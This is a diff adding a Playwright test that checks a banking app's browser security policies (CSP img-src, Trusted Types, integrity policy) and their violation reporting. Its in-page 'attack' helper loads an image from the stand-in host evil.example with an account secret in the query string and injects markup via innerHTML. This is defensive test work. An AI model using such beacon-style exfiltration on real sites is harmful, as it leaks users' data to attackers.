@@ -1,0 +1,70 @@
+import type { Page } from '@playwright/test';
+import type { Bank } from '../bank/startBank.ts';
+import { startTls } from '../bank/startTls.ts';
+import { expect, test } from '../fixtures.ts';
+
+test.use({ ignoreHTTPSErrors: true });
+
+/** Ends what a journey has started, also when it fails. */
+const stops: (() => Promise<void>)[] = [];
+test.afterEach(async () => {
+  for (const stop of stops.splice(0)) await stop();
+});
+
+const fronts = {
+  'over TLS, by the browser itself': async (bank: Bank) => {
+    const { url, stop } = await startTls(bank);
+    stops.push(stop);
+    return url;
+  },
+  'without TLS, by the page': async ({ url }: Bank) => url,
+};
+for (const [how, front] of Object.entries(fronts)) {
+  test(`what a browser refuses is reported ${how}, and seen on the platform page`, async ({
+    page,
+    launchBank,
+    expectProblems,
+  }) => {
+    expectProblems(/TrustedHTML/, /content security policy/i, /evil\.example/, /integrity/i);
+    const bank = await launchBank({ config: { platformPage: true } });
+    const url = await front(bank);
+    await expect(async () => void (await page.goto(`${url}auth/login?token=SECRET`))).toPass();
+    await expect(page.getByRole('heading', { name: 'Welcome Back' })).toBeVisible();
+
+    await page.evaluate(attack);
+
+    const violations = async () => (await (await page.request.get(`${url}health`)).json()).violations;
+    const rules = async () => (await violations()).latest.map(({ rule }: { rule: string }) => rule).sort();
+    const refused = ['img-src', 'integrity-policy', 'require-trusted-types-for'];
+    await expect.poll(rules, { timeout: 30_000 }).toEqual(refused);
+    expect(JSON.stringify(await violations())).not.toContain('SECRET');
+    await openPlatform(page, url);
+    const reported = page.getByRole('table', { name: 'Violations that browsers have reported' });
+    await expect(reported.getByRole('row', { name: /^img-src https:\/\/evil\.example \/auth\/\*/ })).toBeVisible();
+    await expect(reported.getByRole('row', { name: /^require-trusted-types-for Element innerHTML/ })).toBeVisible();
+    await expect(reported.getByRole('row', { name: /^integrity-policy shell\/.+\.js/ })).toBeVisible();
+  });
+}
+
+/** In the page: a picture from elsewhere, a text as mark-up, a script of the bank without its hash. */
+async function attack(): Promise<void> {
+  const picture = new Image();
+  picture.src = 'https://evil.example/pixel.png?account=SECRET';
+  try {
+    document.body.innerHTML = '<b>SECRET</b>';
+  } catch {
+    // Refused, as it should be.
+  }
+  const script = document.createElement('script');
+  script.src = document.querySelector<HTMLScriptElement>('script[integrity]')?.src ?? '';
+  await new Promise((resolve) => {
+    script.onload = script.onerror = resolve;
+    document.head.append(script);
+  });
+}
+
+async function openPlatform(page: Page, url: string): Promise<void> {
+  await page.evaluate(() => localStorage.setItem('bank:session', 'signed-in'));
+  await page.goto(`${url}platform`);
+  await expect(page.getByRole('heading', { level: 1, name: 'Platform' })).toBeVisible();
+}
